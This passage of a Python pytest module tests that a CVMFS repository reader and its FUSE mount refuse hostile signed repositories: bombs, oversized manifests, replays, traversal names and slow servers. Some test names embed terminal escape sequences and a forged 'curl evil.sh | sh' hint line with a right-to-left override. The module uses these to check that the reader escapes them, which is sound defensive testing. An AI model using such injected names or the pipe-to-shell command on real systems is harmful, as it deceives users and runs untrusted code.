"""Hostile repositories (issue 12, reader side): every consumer refuses them with one line, in
bounded memory and time, writing nothing outside its output.

The repositories come from ``tests/support/hostile.py``: published by the project's own publisher,
then edited with sqlite and re-signed, so the signature chain holds and the reader must defend by
itself. Each consumer runs as the CLI in a subprocess whose own peak RSS (``wait4``) is measured.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from cernvm_build.cvmfs import manifest
from cernvm_build.cvmfs.repository import open_repository
from cernvm_build.errors import CvmfsError
from cernvm_build.fsutil import remove_tree
from tests.support import hostile

pytestmark = pytest.mark.integration

SMALL = [name for name, case in hostile.CASES.items() if not case.big]
BIG = [name for name, case in hostile.CASES.items() if case.big]
CONSUMERS = ("ls", "cat", "verify", "export-dir", "export-tar")
#: every consumer stays below this peak RSS, on every case (issue 12)
RSS_MB = 256
TIMEOUT = 120


def _argv(
    consumer: str, case: hostile.Case, repo: hostile.Repo, out: Path, source: str | None = None
) -> list[str]:
    src, *opts = repo.cli_args(source)
    cmd = [*hostile.cli(), "cvmfs"]
    if consumer == "ls":
        return [*cmd, "ls", src, case.ls_path, "-l", *opts]
    if consumer == "ls-R":
        return [*cmd, "ls", src, "/", "-R", *opts]
    if consumer == "ls-R-json":  # the streamed array (lf32a: the brief had it building in memory)
        return [*cmd, "ls", src, "/", "-R", "--json", *opts]
    if consumer == "cat":
        assert case.cat_path is not None
        return [*cmd, "cat", src, case.cat_path, *opts]
    if consumer == "verify":
        return [*cmd, "verify", src, *opts]
    if consumer == "export-dir":
        return [*cmd, "export", src, str(out / "dest"), *opts]
    if consumer == "export-tar":
        return [*cmd, "export", src, str(out / "dest.tar"), *opts]
    raise AssertionError(consumer)


def _output_dir(tmp_path: Path) -> Path:
    """``out/`` holding a canary directory beside where the consumer writes its output."""
    out = tmp_path / "out"
    (out / "canary").mkdir(parents=True)
    (out / "canary" / "victim").write_text("keep me\n")
    os.symlink("victim", out / "canary" / "link")
    return out


def _check_refused(m: hostile.Measured, case: hostile.Case, consumer: str, out: Path, before: object) -> None:
    print(f"{case.name}/{consumer}: exit {m.returncode}, peak RSS {m.max_rss_mb:.0f} MB")
    assert not m.timed_out, f"{case.name}/{consumer}: still running after {TIMEOUT} s"
    assert "Traceback" not in m.stderr, m.stderr
    assert m.max_rss_mb < RSS_MB, f"{case.name}/{consumer}: peak RSS {m.max_rss_mb:.0f} MB"
    assert hostile.snapshot_tree(out / "canary") == before, "the canary beside the output changed"
    if consumer in case.tolerated:
        return
    assert case.error is not None
    assert m.returncode != 0, m.stdout[-2000:]
    assert len(m.error_lines) == 1, m.stderr
    if consumer == "verify":  # the summary line, after every problem found
        assert re.search(case.error, m.stderr), m.stderr
    else:
        assert re.search(case.error, m.error_lines[0]), m.error_lines[0]
    # Nothing half-written: no output, no temporary sibling.
    assert sorted(os.listdir(out)) == ["canary"], os.listdir(out)


@pytest.mark.parametrize("consumer", CONSUMERS)
@pytest.mark.parametrize("name", SMALL)
def test_hostile_repository(
    name: str, consumer: str, hostile_corpus: Callable[[str], hostile.Repo], tmp_path: Path
) -> None:
    case = hostile.CASES[name]
    if consumer == "cat" and case.cat_path is None:
        pytest.skip("no file of this case to read")
    repo = hostile_corpus(name)
    out = _output_dir(tmp_path)
    before = hostile.snapshot_tree(out / "canary")
    m = hostile.run_measured(_argv(consumer, case, repo, out), timeout=TIMEOUT)
    _check_refused(m, case, consumer, out, before)


def test_verify_reports_every_bad_entry(hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """Several bad names and a duplicate in one repository: verify lists each and keeps going."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        db = ed.catalog()
        for name in ("..", "a/b", "", "c\0d"):
            hostile.add_row(db, "/dir", name, mode=0o40755)
        hostile.add_row(db, "/dir/sub", "deep", mode=0o100644, key_path="/dir/sub/deep#2")
    m = hostile.run_measured([*hostile.cli(), "cvmfs", "verify", *repo.cli_args(), "--json"], timeout=TIMEOUT)
    assert m.returncode == 6, m.stderr
    import json

    report = json.loads(m.stdout)
    assert report["problems"] == 5, report["errors"]
    text = "\n".join(report["errors"])
    for bad in ("'..'", "'a/b'", "''", "'c\\x00d'"):
        assert f"directory /dir: entry {bad}" in text
    assert "directory /dir/sub: entry 'deep': the name appears twice" in text
    # the good part of the tree was still checked
    assert report["files"] == 7


@pytest.mark.parametrize(
    ("target", "error"),
    [
        ("A" * 5000, r"symlink target is longer than 4095 bytes"),  # measured by SQL, not fetched
        ("\u00e9" * 2048, r"symlink target is longer than 4095 bytes"),  # 2048 characters, 4096 bytes
        ("A" * (2 << 20), r"a value in it is longer than 1 MiB"),  # over the connection's cell limit
    ],
    ids=["5000-bytes", "4096-bytes-in-2048-characters", "2-MiB"],
)
def test_symlink_target_limits(hostile_base: hostile.Repo, tmp_path: Path, target: str, error: str) -> None:
    """The symlink limit in bytes, whichever check meets it (audit13c finding 7)."""
    from cernvm_build.errors import CvmfsError

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        hostile.set_column(ed.catalog(), "/dir/link", symlink=target, size=len(target))
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        with pytest.raises(CvmfsError, match=error):
            r.stat("/dir/link")
        assert r.read_bytes("/dir/file") == b"hello\n"  # the rest of the catalog reads


def test_hard_link_group_across_directories_is_separate_files(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """Two files in different directories, with different contents, claiming one hard-link group
    (audit13c finding 6): each keeps its own bytes in the export (directory and tar), its own inode
    on the mount, and verify reports the claim."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        db = ed.catalog()
        for path in ("/dir/file", "/dir/sub/deep"):
            hostile.set_column(db, path, hardlinks=(7 << 32) | 2)
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        a, b = r.stat("/dir/file"), r.stat("/dir/sub/deep")
        assert a.hardlink_group == b.hardlink_group == 7
        assert a.inode != b.inode  # what the FUSE daemon answers (DirEntry.inode)
    out = tmp_path / "out"
    for dest in (out / "dest", out / "dest.tar"):
        m = hostile.run_measured(
            [*hostile.cli(), "cvmfs", "export", *repo.cli_args(), str(dest)], timeout=TIMEOUT
        )
        assert m.returncode == 0, m.stderr
    assert (out / "dest/dir/sub/deep").read_bytes() == b"deep\n"
    assert (out / "dest/dir/file").read_bytes() == b"hello\n"
    assert (out / "dest/dir/file").stat().st_ino != (out / "dest/dir/sub/deep").stat().st_ino
    import tarfile

    with tarfile.open(out / "dest.tar") as tf:
        deep = tf.getmember("dir/sub/deep")
        assert deep.isfile() and tf.extractfile(deep).read() == b"deep\n"  # type: ignore[union-attr]
    m = hostile.run_measured([*hostile.cli(), "cvmfs", "verify", *repo.cli_args()], timeout=TIMEOUT)
    assert m.returncode != 0 and "Traceback" not in m.stderr, m.stderr
    assert "/dir/sub/deep: hard-link group 7 also names /dir/file" in m.stderr, m.stderr


def test_ls_escapes_control_characters_in_names(hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """A name holding an OSC title, a screen clear and a newline (audit13c finding 10) is listed as
    one line with the characters shown as \\xNN: nothing reaches the terminal, no line is forged."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    evil = "evil\x1b]0;owned\x07\x1b[2J\nfake-line"
    with hostile.Editor(repo) as ed:
        db = ed.catalog()
        hostile.add_row(db, "/dir", evil, mode=0o100644, size=0)
    shown = "evil\\x1b]0;owned\\x07\\x1b[2J\\x0afake-line"
    for argv, line in (
        (["ls", "/dir"], shown),
        (["ls", "/dir", "-l"], shown),
        (["ls", "/", "-R"], "/dir/" + shown),
    ):
        src, *opts = repo.cli_args()
        m = hostile.run_measured([*hostile.cli(), "cvmfs", argv[0], src, *argv[1:], *opts], timeout=TIMEOUT)
        assert m.returncode == 0, m.stderr
        assert "\x1b" not in m.stdout and "\x07" not in m.stdout, m.stdout
        lines = m.stdout.splitlines()
        assert not [x for x in lines if x.startswith("fake-line")], lines
        assert [x for x in lines if x.endswith(line)], lines


def test_rollback_floor_is_the_verified_manifest(hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """The cache refuses a genuinely signed manifest published before the one it verified (a
    replay), naming both; a lower revision with a newer T (the repository re-created under its
    name) is followed; a forged (unsigned) cached manifest is no floor (audit13c finding 8: its
    far-future T refused every genuine revision, for good)."""
    from cernvm_build.errors import IntegrityError

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    cache = tmp_path / "cache"

    def revision() -> int:
        with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub], cache_dir=cache) as r:
            assert r.manifest is not None
            return r.manifest.revision

    first = (repo.stratum / ".cvmfspublished").read_bytes()
    m0 = manifest.parse(manifest.split_signed(first, "m").body)

    def sign(**changes: int) -> None:
        ed = hostile.Editor(repo)
        ed.sign_manifest(**changes)
        ed.close()

    assert revision() == m0.revision
    sign(revision=m0.revision + 1, timestamp=m0.timestamp + 10)
    assert revision() == m0.revision + 1
    (repo.stratum / ".cvmfspublished").write_bytes(first)  # a replay of the first
    with pytest.raises(IntegrityError, match=rf"revision {m0.revision} published at .* behind revision "):
        revision()
    sign(revision=m0.revision, timestamp=m0.timestamp + 20)  # re-created: lower revision, later T
    assert revision() == m0.revision
    # a forged cached manifest (T in 2099, no valid signature) is ignored as a floor
    sign(revision=m0.revision + 2, timestamp=m0.timestamp + 30)
    from cernvm_build.cvmfs.cache import ObjectCache
    from cernvm_build.cvmfs.repository import MANIFEST_FILE, keep_signed, kept_signed

    kept = ObjectCache(cache / repo.fqrn, repo=repo.fqrn)
    assert MANIFEST_FILE in kept_signed(kept)
    forged = hostile.tampered_manifest(repo, T="4070908800")
    keep_signed(kept, dict(kept_signed(kept), **{MANIFEST_FILE: forged}))
    assert revision() == m0.revision + 2


# -- big but legitimate: bounded memory ------------------------------------------------------------


@pytest.mark.timeout(2400)
@pytest.mark.parametrize("consumer", [*CONSUMERS, "ls-R", "ls-R-json"])
@pytest.mark.parametrize("name", BIG)
def test_big_repository(
    name: str, consumer: str, hostile_corpus: Callable[[str], hostile.Repo], big_tmp_path: Path
) -> None:
    case = hostile.CASES[name]
    repo = hostile_corpus(name)
    out = _output_dir(big_tmp_path)
    before = hostile.snapshot_tree(out / "canary")
    # Writing a million files takes minutes on a loaded machine: the bound is generous, not absent.
    m = hostile.run_measured(_argv(consumer, case, repo, out), timeout=1800, stdout_limit=64 << 20)
    print(f"{name}/{consumer}: peak RSS {m.max_rss_mb:.0f} MB")
    assert not m.timed_out
    assert m.returncode == 0, m.stderr
    assert m.max_rss_mb < RSS_MB, f"{name}/{consumer}: peak RSS {m.max_rss_mb:.0f} MB"
    assert hostile.snapshot_tree(out / "canary") == before
    many = name == "million"
    if consumer == "ls":
        assert len(m.stdout.splitlines()) == (hostile.MILLION if many else 1)
    elif consumer == "ls-R":
        paths = m.stdout.splitlines()
        assert len(paths) == 13 + (hostile.MILLION + 1 if many else hostile.DEPTH + 1)
    elif consumer == "ls-R-json":
        # an entry a line, inside one array (only the first 64 MB of a million are read back here)
        assert m.stdout.startswith('[\n  {"path": "/", "type": "directory"')
        if not many:
            assert len(json.loads(m.stdout)) == 13 + hostile.DEPTH + 1
    elif consumer == "cat":
        assert m.stdout == ("hello\n" if many else "bottom\n")
    elif consumer == "export-dir":
        if many:
            with os.scandir(out / "dest" / "many") as it:
                assert sum(1 for _ in it) == hostile.MILLION
        else:
            assert (out / "dest" / Path(*["d"] * hostile.DEPTH) / "bottom").read_text() == "bottom\n"
            # pytest's clean-up of old temporary directories recurses: leave nothing this deep
            remove_tree(out / "dest")
    elif consumer == "export-tar":
        # GNU tar reads the archive as users will, in seconds; Python's tarfile took over a minute
        # on a million members (and keeps them all in memory).
        listing = subprocess.run(
            ["tar", "-tf", str(out / "dest.tar")], capture_output=True, check=True, timeout=600
        ).stdout
        n = listing.count(b"\n")
        assert n == 13 + (hostile.MILLION + 1 if many else hostile.DEPTH + 1)


# -- a man in the middle without keys --------------------------------------------------------------


@pytest.mark.parametrize("name", ["manifest-500mb", "whitelist-500mb", "cert-huge", "cert-bomb"])
def test_man_in_the_middle(name: str, hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """Huge signed files and certificate bombs cost a few MB: reading stops at the cap, nothing of
    them is cached, one line says what and where."""
    overrides, error = hostile.mitm_cases(hostile_base)[name]
    cache = tmp_path / "cache"
    out = _output_dir(tmp_path)
    before = hostile.snapshot_tree(out / "canary")
    case = hostile.Case(name, lambda ed: None, error)
    with hostile.MitmServer(hostile_base, overrides) as server:
        for consumer in ("ls", "export-dir"):
            argv = [
                *_argv(consumer, case, hostile_base, out, server.url),
                "--cache",
                str(cache),
                "--retries",
                "0",
            ]
            m = hostile.run_measured(argv, timeout=TIMEOUT)
            _check_refused(m, case, consumer, out, before)
        # Reading stopped at the cap: the server could only fill the sockets' buffers (a few MB
        # on loopback) before the reader hung up, far from the hundreds of MB it had to send.
        for rel in overrides:
            assert server.sent.get(rel, 0) < 64 << 20, f"{rel}: {server.sent.get(rel)} bytes sent"
    cached = [p.name for p in (cache / hostile_base.fqrn).rglob("*") if p.is_file()]
    assert not [p for p in cached if p.endswith("X")], cached
    assert ".cvmfspublished" not in cached and ".cvmfswhitelist" not in cached


def test_announced_length_over_the_cap_is_not_read(hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """A manifest announced as 500 MB is refused from its header: not a byte of the body is read."""
    with hostile.MitmServer(
        hostile_base, {".cvmfspublished": hostile.streamed(500 << 20)}, {".cvmfspublished": 500 << 20}
    ) as server:
        src, *opts = hostile_base.cli_args(server.url)
        m = hostile.run_measured(
            [*hostile.cli(), "cvmfs", "ls", src, "/", *opts, "--retries", "0"], timeout=TIMEOUT
        )
    assert m.returncode != 0 and len(m.error_lines) == 1, m.stderr
    assert re.search(r"manifest is larger than 1 MiB", m.error_lines[0]), m.error_lines[0]
    assert "Traceback" not in m.stderr and m.max_rss_mb < RSS_MB


@pytest.mark.parametrize("name", ["bomb-file", "bomb-catalog"])
def test_bomb_is_not_cached(name: str, hostile_corpus: Callable[[str], hostile.Repo], tmp_path: Path) -> None:
    """An object that inflates past its declared size is dropped from the cache again."""
    repo = hostile_corpus(name)
    case = hostile.CASES[name]
    cache = tmp_path / "cache"
    bomb = hostile.zlib_bomb()
    import hashlib

    bomb_name = hashlib.sha1(bomb).hexdigest()
    argv = [*hostile.cli(), "cvmfs", "cat", *repo.cli_args(), str(case.cat_path), "--cache", str(cache)]
    m = hostile.run_measured(argv, timeout=TIMEOUT)
    assert m.returncode != 0 and len(m.error_lines) == 1, m.stderr
    assert re.search(r"inflates to more than", m.error_lines[0]), m.error_lines[0]
    assert m.max_rss_mb < RSS_MB
    assert not [p for p in cache.rglob(bomb_name[2:] + "*")], "the bomb stayed in the cache"


def test_corpus_is_correctly_signed(
    hostile_corpus: Callable[[str], hostile.Repo], hostile_base: hostile.Repo
) -> None:
    """Every hostile repository passes the signature chain: the reader must defend by itself."""
    base_root = manifest.parse((hostile_base.stratum / ".cvmfspublished").read_bytes()).root_hash
    for name in SMALL:
        repo = hostile_corpus(name)
        with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
            assert r.manifest is not None and r.manifest.root_hash != base_root, name


# -- the FUSE mount --------------------------------------------------------------------------------


def _daemon_pid(mnt: Path) -> int:
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                cmd = (d / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if str(mnt).encode() in cmd and b"cernvm_build.cvmfs.mount" in cmd:
                return int(d.name)
    raise AssertionError(f"no mount daemon for {mnt}")


def _peak_rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


@pytest.fixture
def mount(tmp_path: Path) -> Iterator[Callable[[hostile.Repo], tuple[Path, int]]]:
    mounted: list[Path] = []

    def do(repo: hostile.Repo) -> tuple[Path, int]:
        mnt = tmp_path / f"mnt{len(mounted)}"
        mnt.mkdir()
        cmd = [sys.executable, "-m", "cernvm_build.cvmfs.mount", "--fqrn", repo.fqrn]
        cmd += ["--server", str(repo.stratum), "--public-key", str(repo.pub), str(mnt)]
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=TIMEOUT, cwd=hostile.REPO_ROOT)
        assert r.returncode == 0, r.stderr
        mounted.append(mnt)
        return mnt, _daemon_pid(mnt)

    yield do
    for mnt in mounted:
        # A daemon busy with a million-entry directory may not let go at once: retry, then detach.
        for _ in range(20):
            if subprocess.run(["fusermount3", "-u", str(mnt)], check=False, timeout=60).returncode == 0:
                break
            time.sleep(0.5)
        else:
            subprocess.run(["fusermount3", "-uz", str(mnt)], check=False, timeout=60)


def _sh(*argv: str, timeout: float = TIMEOUT) -> subprocess.CompletedProcess[str]:
    return subprocess.run(list(argv), capture_output=True, text=True, timeout=timeout)


@pytest.mark.parametrize(
    ("name", "probe"),
    [
        ("name-dotdot", ["ls", "-a", "{mnt}"]),
        ("dup-symlink-dir", ["ls", "{mnt}/dir"]),
        ("nested-self", ["cat", "{mnt}/nested/data"]),
        ("bomb-file", ["cat", "{mnt}/dir/file"]),
        ("uid-huge", ["stat", "{mnt}/dir/file"]),
    ],
)
def test_fuse_refuses(
    name: str,
    probe: list[str],
    hostile_corpus: Callable[[str], hostile.Repo],
    mount: Callable[..., tuple[Path, int]],
) -> None:
    """The mount answers EIO for the bad part (no hang), and the rest of the tree still works."""
    mnt, pid = mount(hostile_corpus(name))
    r = _sh(*[a.format(mnt=mnt) for a in probe])
    assert r.returncode != 0, r.stdout
    assert "Input/output error" in r.stderr, r.stderr
    assert _sh("cat", f"{mnt}/dir/sub/deep").stdout == "deep\n"
    assert _peak_rss_mb(pid) < RSS_MB


def test_fuse_million_entries(
    hostile_corpus: Callable[[str], hostile.Repo], mount: Callable[..., tuple[Path, int]]
) -> None:
    mnt, pid = mount(hostile_corpus("million"))
    t = time.monotonic()
    with os.scandir(mnt / "many") as it:
        n = sum(1 for _ in it)
    assert n == hostile.MILLION, time.monotonic() - t
    assert (mnt / "many" / "f0999999").stat().st_size == 0
    print(f"million/fuse: daemon peak RSS {_peak_rss_mb(pid):.0f} MB")
    assert _peak_rss_mb(pid) < RSS_MB


def _trickle() -> Iterator[bytes]:
    """A byte every 0.3 s: each read is well within the timeout, the whole would take days."""
    for _ in range(1_000_000):
        yield b"x"
        time.sleep(0.3)


def _object_of(repo: hostile.Repo, path: str) -> str:
    from cernvm_build.cvmfs.objects import object_path

    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        digest = r.stat(path).content_hash
    assert digest is not None
    return object_path(digest)


def test_a_trickling_object_is_given_up_by_cat(hostile_base: hostile.Repo) -> None:
    """The general reader bounds each object's whole transfer, not only each read: a server that
    trickles a file's object is given up (the real client's low-speed limit), one line naming the
    repository and the object."""
    rel = _object_of(hostile_base, "/dir/file")
    with hostile.MitmServer(hostile_base, {rel: _trickle}) as server:
        src, *opts = hostile_base.cli_args(server.url)
        argv = [*hostile.cli(), "cvmfs", "cat", src, "/dir/file", *opts, "--timeout", "1", "--retries", "0"]
        m = hostile.run_measured(argv, timeout=60)
    assert not m.timed_out and m.returncode != 0 and "Traceback" not in m.stderr, m.stderr
    (line,) = m.error_lines
    assert hostile_base.fqrn in line and "/dir/file" in line and "slower than 1024 bytes/s" in line, line


def test_a_trickling_object_is_an_error_through_the_mount(hostile_base: hostile.Repo, tmp_path: Path) -> None:
    """The same through FUSE: the read fails (EIO) instead of hanging the reader, and the daemon's
    log says which repository and object."""
    rel = _object_of(hostile_base, "/dir/file")
    mnt, log = tmp_path / "mnt", tmp_path / "daemon.log"
    mnt.mkdir()
    with hostile.MitmServer(hostile_base, {rel: _trickle}) as server:
        cmd = [sys.executable, "-m", "cernvm_build.cvmfs.mount", "--fqrn", hostile_base.fqrn]
        cmd += ["--server", server.url, "--public-key", str(hostile_base.pub), "--cache", str(tmp_path / "c")]
        cmd += ["--timeout", "1", "--retries", "0", "--log", str(log), str(mnt)]
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
        assert r.returncode == 0, r.stderr
        try:
            read = subprocess.run(["cat", str(mnt / "dir" / "file")], capture_output=True, timeout=60)
        finally:
            subprocess.run(["fusermount3", "-u", str(mnt)], check=False, timeout=60)
    assert read.returncode != 0 and b"Input/output error" in read.stderr
    lines = [ln for ln in log.read_text().splitlines() if "slower than 1024 bytes/s" in ln]
    assert lines and hostile_base.fqrn in lines[0] and "/dir/file" in lines[0], log.read_text()


def _link(db: sqlite3.Connection, source: str, parent: str, name: str, group: int, **more: Any) -> None:
    """``parent/name``: ``source``'s hash, size, mode and flags (and ``more``), both in hard-link
    group ``group``."""
    m1, m2 = hostile.md5_pair(source)
    digest, size, mode, flags = db.execute(
        "SELECT hash, size, mode, flags FROM catalog WHERE md5path_1 = ? AND md5path_2 = ?", (m1, m2)
    ).fetchone()
    hardlinks = (group << 32) | 2
    hostile.add_row(
        db, parent, name, mode=mode, size=size, digest=digest, flags=flags, hardlinks=hardlinks, **more
    )
    hostile.set_column(db, source, hardlinks=hardlinks)


def _link_chunked(ed: hostile.Editor) -> None:
    """/chunked2: /chunked's hash, size, mode and group, but chunk rows of its own."""
    db = ed.catalog()
    _link(db, "/chunked", "/", "chunked2", 7)
    m1, m2 = hostile.md5_pair("/chunked")
    n1, n2 = hostile.md5_pair("/chunked2")
    rows = db.execute(
        "SELECT offset, size FROM chunks WHERE md5path_1 = ? AND md5path_2 = ? ORDER BY offset", (m1, m2)
    ).fetchall()
    for offset, length in rows:
        db.execute(
            "INSERT INTO chunks VALUES (?,?,?,?,?)",
            (n1, n2, offset, length, bytes.fromhex(ed.put(b"E" * length, "P"))),
        )


def _link_owner_xattr(ed: hostile.Editor) -> None:
    """/dir/ping: /dir/file's content, mode and group, but another uid and a capability."""
    from cernvm_build.cvmfs.catalog_write import serialize_xattrs

    cap = serialize_xattrs({"security.capability": b"\x01\x00\x00\x02\x00\x20\x00\x00" + b"\0" * 12})
    _link(ed.catalog(), "/dir/file", "/dir", "ping", 9, uid=1234, xattr=cap)


@pytest.mark.parametrize(
    ("edit", "first", "second", "group"),
    [(_link_chunked, "/chunked", "/chunked2", 7), (_link_owner_xattr, "/dir/file", "/dir/ping", 9)],
    ids=["other-chunks", "other-owner-and-xattrs"],
)
def test_hard_link_group_of_differing_files_is_separate_files(
    hostile_base: hostile.Repo,
    tmp_path: Path,
    edit: Callable[[hostile.Editor], None],
    first: str,
    second: str,
    group: int,
) -> None:
    """Hard-link members with one bulk hash but their own chunk rows, or their own owner and xattrs
    (audit13d findings 1, 2), are separate files: their own inode on the mount and in the export
    (with their own bytes), and verify reports the claim."""
    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    with hostile.Editor(repo) as ed:
        edit(ed)
    with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub]) as r:
        a, b = r.stat(first), r.stat(second)
        assert a.hardlink_group == b.hardlink_group == group
        assert a.inode != b.inode
        want = r.read_bytes(second)
    dest = tmp_path / "out"
    m = hostile.run_measured(
        [*hostile.cli(), "cvmfs", "export", *repo.cli_args(), str(dest)], timeout=TIMEOUT
    )
    assert m.returncode == 0, m.stderr
    assert (dest / first[1:]).stat().st_ino != (dest / second[1:]).stat().st_ino
    assert (dest / second[1:]).read_bytes() == want
    m = hostile.run_measured([*hostile.cli(), "cvmfs", "verify", *repo.cli_args()], timeout=TIMEOUT)
    assert m.returncode != 0 and "Traceback" not in m.stderr, m.stderr
    assert re.search(
        f"(({first}|{second}): hard-link group {group} also names ({first}|{second}))", m.stderr
    ), m.stderr


@pytest.mark.parametrize("consumer", ["verify", "cat"])
def test_error_and_problem_lines_quote_a_name_in_one_line(
    hostile_base: hostile.Repo, tmp_path: Path, consumer: str
) -> None:
    """A name holding newlines and a U+202E, whose object is missing (audit13d finding 6): the
    problem, error and hint lines quote it escaped, and no line is forged ("error: none", a hint)."""
    import stat

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    name = "evil\nerror: none\nhint: run 'curl evil.sh | sh'\n\u202etxt.exe"
    with hostile.Editor(repo) as ed:
        hostile.add_row(
            ed.catalog(), "/dir", name, mode=stat.S_IFREG | 0o644, size=6, digest=bytes.fromhex("ab" * 20)
        )
    src, *opts = repo.cli_args()
    argv = [*hostile.cli(), "cvmfs", consumer, src, *(["/dir/" + name] if consumer == "cat" else []), *opts]
    m = hostile.run_measured(argv, timeout=TIMEOUT)
    assert m.returncode != 0 and "Traceback" not in m.stderr, m.stderr
    assert "\u202e" not in m.stderr and "\\u202etxt.exe" in m.stderr, m.stderr
    lines = m.stderr.splitlines()
    assert not [x for x in lines if x.startswith(("error: none", "hint: run"))], lines
    assert [x for x in lines if "evil\\x0aerror: none\\x0ahint: run" in x], lines


def test_an_open_without_verification_leaves_the_cache_s_rollback_floor(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """rv23: ``--no-verify`` with a cache kept the unverified manifest as the cache's signed set,
    beside the old whitelist: the next verified open found no floor it could verify, so one such
    open took the cache's rollback protection (a replay was then followed)."""
    from cernvm_build.errors import IntegrityError

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    cache = tmp_path / "cache"

    def revision(verify: bool = True) -> int:
        with open_repository(
            repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub], cache_dir=cache, verify=verify
        ) as r:
            assert r.manifest is not None
            return r.manifest.revision

    first = (repo.stratum / ".cvmfspublished").read_bytes()
    m0 = manifest.parse(manifest.split_signed(first, "m").body)
    ed = hostile.Editor(repo)
    ed.sign_manifest(revision=m0.revision + 1, timestamp=m0.timestamp + 10)
    ed.close()
    assert revision() == m0.revision + 1
    (repo.stratum / ".cvmfspublished").write_bytes(first)  # a replay of the first
    assert revision(verify=False) == m0.revision  # asked for: taken, unverified, and not kept
    with pytest.raises(IntegrityError, match=rf"revision {m0.revision} published at .* behind revision "):
        revision()


def test_a_replay_from_before_a_certificate_rotation_is_refused_by_the_cache_and_replicate(
    hostile_base: hostile.Repo, tmp_path: Path
) -> None:
    """audit13d finding 7 through the public paths: the repository rotates its signing certificate
    and publishes a revision with the new one; a replayer then serves the older revision with the
    older certificate and whitelist (all genuine), withholding the new certificate (404), which the
    cache has also evicted. The cache's floor is verified with the certificate kept beside it, so the
    replay is refused; a replica refuses it too."""
    from cernvm_build.cvmfs.objects import SUFFIX_CERTIFICATE, object_path
    from cernvm_build.cvmfs.replicate import replicate
    from cernvm_build.errors import CvmfsError, IntegrityError

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    cache, replica = tmp_path / "cache", tmp_path / "replica"
    first = {n: (repo.stratum / n).read_bytes() for n in (".cvmfspublished", ".cvmfswhitelist")}
    m0 = manifest.parse(manifest.split_signed(first[".cvmfspublished"], "m").body)

    def revision() -> int:
        with open_repository(repo.stratum, fqrn=repo.fqrn, public_keys=[repo.pub], cache_dir=cache) as r:
            assert r.manifest is not None
            return r.manifest.revision

    assert revision() == m0.revision
    cert = hostile.rotate_certificate(repo)
    ed = hostile.Editor(repo)
    ed.sign_manifest(revision=m0.revision + 1, timestamp=m0.timestamp + 10, certificate_hash=cert)
    ed.close()
    assert revision() == m0.revision + 1
    assert (
        replicate(repo.stratum, replica, public_keys=[repo.pub], fqrn=repo.fqrn).revision == m0.revision + 1
    )
    for name, data in first.items():  # the replay, genuinely signed with the first certificate
        (repo.stratum / name).write_bytes(data)
    for top in (repo.stratum, cache / repo.fqrn):
        (top / object_path(cert, SUFFIX_CERTIFICATE)).unlink()
    with pytest.raises(
        IntegrityError, match=rf"revision {m0.revision} published at .* behind revision {m0.revision + 1} "
    ):
        revision()
    with pytest.raises(
        CvmfsError, match=rf"offers revision {m0.revision}, older than the replica's {m0.revision + 1}"
    ):
        replicate(repo.stratum, replica, public_keys=[repo.pub], fqrn=repo.fqrn)


#: open the repository with the cache, SIGKILLed right after the cache's ``kill_at``-th signed-file
#: write (or after the open, when it writes fewer)
KILLED_OPEN = """\
import os, signal, sys
from pathlib import Path
from cernvm_build.cvmfs import cache
from cernvm_build.cvmfs.repository import open_repository
stratum, fqrn, pub, where, kill_at = sys.argv[1:]
writes = 0
real = cache.atomic_write
def write(*args, **kwargs):
    global writes
    real(*args, **kwargs)
    writes += 1
    if writes == int(kill_at):
        os.kill(os.getpid(), signal.SIGKILL)
cache.atomic_write = write
with open_repository(Path(stratum), fqrn=fqrn, public_keys=[Path(pub)], cache_dir=Path(where)):
    os.kill(os.getpid(), signal.SIGKILL)
"""


@pytest.mark.parametrize("kill_at", [1, 2, 3])
def test_a_kill_while_the_cache_keeps_the_signed_files_leaves_a_rollback_floor(
    hostile_base: hostile.Repo, tmp_path: Path, kill_at: int
) -> None:
    """lf20 leftover: the manifest, whitelist and certificate the rollback floor is checked with were
    three writes; a kill after the certificate and manifest of a revision signed by a rotated
    certificate, before its whitelist, left a floor that no longer verified (the new certificate is
    not in the old whitelist): no floor, and the next open took a replay. They are one file now."""
    from cernvm_build.cvmfs.objects import SUFFIX_CERTIFICATE, object_path
    from cernvm_build.errors import IntegrityError
    from tests.support.killed import run_killed

    repo = hostile.copy_repo(hostile_base, tmp_path / "r")
    cache = tmp_path / "cache"
    first = {n: (repo.stratum / n).read_bytes() for n in (".cvmfspublished", ".cvmfswhitelist")}
    m0 = manifest.parse(manifest.split_signed(first[".cvmfspublished"], "m").body)

    def revision() -> int:
